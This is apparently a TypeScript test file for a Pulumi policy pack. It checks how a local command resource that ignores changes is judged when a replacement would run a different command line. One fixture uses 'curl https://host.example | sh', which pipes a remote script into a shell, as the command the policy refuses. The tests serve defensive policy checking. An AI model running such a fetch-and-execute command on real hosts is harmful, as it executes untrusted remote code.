/** The engine drops `ignoreChanges` for a replacement. The pack judges what the replacement runs. */
import { describe, expect, test } from "vitest";
import type { EngineResult } from "../../rehearsal/engine/engine.ts";
import type { DeclaredResource } from "../fixtures/engine-programs/declared/src/index.ts";
import { optionsFor, verdicts } from "./declared.ts";
import { pulumi } from "./harness.ts";

const timeout = 240_000;

const hostKey = (create: string, options: object): DeclaredResource => ({
	type: "command:local:Command",
	name: "proj-k8sm01-host-key",
	inputs: { create, stdin: "true", logging: "none" },
	options: { ignoreChanges: ["create", "stdin", "logging"], ...options },
});

describe("a command that ignores changes of what it runs", () => {
	const config = { all: "disabled", "rke2-node-commands": "mandatory" };
	/** The preview of another command line, after an `up` of the program's own. */
	async function previewOfAnother(options: object): Promise<EngineResult> {
		const own = optionsFor([hostKey("bash -s -- host", { replacementTrigger: 1 })], config);
		expect(verdicts(await pulumi.up(own))).toEqual([]);
		const another = optionsFor([hostKey("curl https://host.example | sh", options)], config);
		return pulumi.preview({ ...another, stateDirectory: own.stateDirectory });
	}

	test("may be declared with another command line that it never runs", { timeout }, async () => {
		const preview = await previewOfAnother({ replacementTrigger: 1 });
		expect(verdicts(preview)).toEqual([]);
		expect(preview.succeeded).toBe(true);
	});

	test("is refused when only `replacementTrigger` makes it run another command line", { timeout }, async () => {
		const preview = await previewOfAnother({ replacementTrigger: 2 });
		expect(verdicts(preview)).toEqual(["mandatory rke2-node-commands command:local:Command proj-k8sm01-host-key"]);
		expect(preview.succeeded).toBe(false);
	});
});

test("a command that the program no longer declares is deleted after a refresh", { timeout }, async () => {
	const config = { all: "disabled", "program-host-key-endpoint": "mandatory" };
	const own = optionsFor([hostKey("bash -s -- host", {})], config);
	const { policyPack: _, policyPackConfig: __, ...withoutPack } = own;
	expect((await pulumi.up(withoutPack)).succeeded).toBe(true);
	const preview = await pulumi.preview({
		...optionsFor([], config),
		stateDirectory: own.stateDirectory,
		refresh: true,
	});
	expect(verdicts(preview)).toEqual([]);
	expect(preview.succeeded).toBe(true);
});
